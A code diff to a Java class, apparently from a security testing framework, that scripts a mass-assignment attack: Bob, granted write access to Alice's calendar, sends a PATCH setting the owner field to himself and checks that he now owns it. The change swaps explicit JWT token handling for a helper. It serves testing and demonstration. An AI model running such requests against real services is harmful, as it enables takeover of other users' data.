@@ -27,13 +27,10 @@ public final class MassAssignment implements Attack {
 
   @Override
   public AttackResult run(Target target) throws InterruptedException {
-    String alice = target.loot().secret(Loot.VICTIM, "jwt");
-    String bob = target.loot().secret(WRITER, "jwt");
     Draft share =
         target.with(
             "PUT", CALENDAR + "/sharing/" + WRITER, "application/json", "{\"access\":\"writer\"}");
-    target.send(
-        "Alice", "Alice lets Bob write in her calendar.", JwtAttack.withToken(share, alice));
+    target.send("Alice", "Alice lets Bob write in her calendar.", target.as(Loot.VICTIM, share));
     Draft patch =
         target.with(
             "PATCH",
@@ -41,11 +38,9 @@ public final class MassAssignment implements Attack {
             "application/json",
             "{\"name\":\"Work\",\"owner\":\"" + WRITER + "\"}");
     target.send(
-        "Bob gives the calendar a name, and himself the calendar.",
-        JwtAttack.withToken(patch, bob));
+        "Bob gives the calendar a name, and himself the calendar.", target.as(WRITER, patch));
     Hop after =
-        target.send(
-            "Bob looks whose calendar it is now.", JwtAttack.withToken(target.get(CALENDAR), bob));
+        target.send("Bob looks whose calendar it is now.", target.as(WRITER, target.get(CALENDAR)));
     boolean his = after.status() == 200 && Events.body(after).path("owner").asText().equals(WRITER);
     return target.end(his, "Alice's calendar now belongs to Bob.");
   }
